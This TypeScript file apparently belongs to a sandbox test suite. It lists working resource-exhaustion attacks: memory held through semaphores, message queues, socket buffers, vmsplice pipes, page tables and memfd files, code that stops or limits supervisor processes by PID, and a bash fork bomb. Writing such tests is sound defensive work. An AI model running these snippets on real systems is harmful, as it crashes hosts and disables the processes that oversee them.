import type { CodeLanguage } from '@harvestman/ports'

/** Ways to memory that stands in no figure of a process, and ways to those who count it. Each says TOOK when it has had it all. */
export interface Attack {
  readonly name: string
  readonly language: CodeLanguage
  readonly code: (bytes: number) => string
  /** Milliseconds, for what would never end by itself. */
  readonly timeout?: number
}

const python = (name: string, code: string): Attack => ({
  name,
  language: 'python',
  code: (bytes) =>
    `import ctypes, mmap, os, signal, socket, time\nlibc = ctypes.CDLL(None, use_errno=True)\nwanted = ${bytes}\nhad = 0\n${helpers}${code}\nprint("TOOK", had)`,
})

const helpers = `def call(*args):
  got = libc.syscall(*args)
  if got < 0: raise OSError(ctypes.get_errno(), "refused")
  return got
def share(count, take):
  "Each of these processes takes its part, and holds it until all have it."
  done, told = os.pipe()
  for _ in range(count):
    if os.fork() == 0:
      try: take(wanted // count)
      except BaseException: os._exit(1)
      os.write(told, b"x")
      time.sleep(600)
  os.close(told)
  got = 0
  until = time.monotonic() + 30
  while got < count and time.monotonic() < until:
    os.set_blocking(done, False)
    try:
      part = os.read(done, 64)
      if not part: raise MemoryError("The others were ended.")
      got += len(part)
    except BlockingIOError: time.sleep(0.05)
  if got < count: raise MemoryError("Not all was had.")
  return wanted
def fill(one):
  one.setblocking(False)
  size = 0
  chunk = bytes(65536)
  try:
    while True: size += one.send(chunk)
  except BlockingIOError: return size
def plain(size):
  held = mmap.mmap(-1, size)
  for n in range(0, size, 4096): held[n] = 1
  return held
`

const fillWithoutWatch = (stop: string): string => `${stop}\nkept = share(4, plain)\nhad = wanted`

export const attacks: readonly Attack[] = [
  python(
    'semaphores of System V',
    `while had < wanted:
  call(64, 0, 32000, 0o1600)
  had += 32000 * 64`,
  ),
  python(
    'messages of System V',
    `text = ctypes.create_string_buffer(8200)
ctypes.c_long.from_buffer(text).value = 1
while had < wanted:
  queue = call(68, 0, 0o1600)
  for _ in range(2):
    call(69, queue, text, 8192, 0o4000)
    had += 8192`,
  ),
  python(
    'pairs of sockets',
    `def take(size):
  kept = []
  taken = 0
  while taken < size and len(kept) < 100:
    pair = socket.socketpair()
    kept.append(pair)
    for one in pair:
      one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**8)
      taken += fill(one)
  globals()["held"] = kept
  if taken < size: raise MemoryError("No more was given.")
had = share(45, take)`,
  ),
  python(
    'buffers of TCP',
    `def take(size):
  kept = [socket.create_server(("127.0.0.1", 0))]
  taken = 0
  while taken < size and len(kept) < 200:
    one = socket.create_connection(kept[0].getsockname())
    other, _ = kept[0].accept()
    kept += [one, other]
    for end in (one, other):
      for option in (socket.SO_SNDBUF, socket.SO_RCVBUF): end.setsockopt(socket.SOL_SOCKET, option, 10**8)
      taken += fill(end)
  globals()["held"] = kept
  if taken < size: raise MemoryError("No more was given.")
had = share(30, take)`,
  ),
  python(
    'pages in pipes (vmsplice)',
    `class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
huge = 2 * 2**20
def take(size):
  taken = 0
  ends = []
  while taken < size:
    ends.append(os.pipe())
    for _ in range(2):
      base = libc.mmap(None, 2 * huge, 3, 0x22, -1, 0)
      start = (base + huge - 1) // huge * huge
      libc.madvise(start, huge, 14)
      ctypes.memset(start, 1, huge)
      part = Part(start, 4096)
      call(278, ends[-1][1], ctypes.byref(part), 1, 0)
      libc.munmap(base, 2 * huge, 0)
      taken += huge
had = share(20, take)`,
  ),
  python(
    'tables of pages',
    `libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
def take(size):
  reach = 14 * 2**30
  base = libc.mmap(None, reach, 1, 0x4022, -1, 0)
  for at in range(0, min(reach, size * 512), 2 * 2**20): ctypes.string_at(base + at, 1)
had = share(45, take)`,
  ),
  python(
    'files in memory',
    `held = os.memfd_create("x")
while had < wanted: had += os.write(held, bytes(10**7))`,
  ),
  python('memory that processes share', `held = plain(wanted)\nhad = wanted`),
  python(
    'the supervisor stopped',
    fillWithoutWatch(
      `for pid in range(1, os.getpid()):
  for name in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU):
    try: os.kill(pid, name)
    except OSError: pass`,
    ),
  ),
  python(
    'the supervisor bounded (prlimit)',
    fillWithoutWatch(
      `import resource
for pid in range(1, os.getpid()):
  try: resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
  except OSError: pass`,
    ),
  ),
  {
    name: 'processes that make processes',
    language: 'bash',
    code: () => 'b() { b | b & }; b; for n in {1..200}; do sleep 60 & done; sleep 2; echo TOOK',
    timeout: 4_000,
  },
]
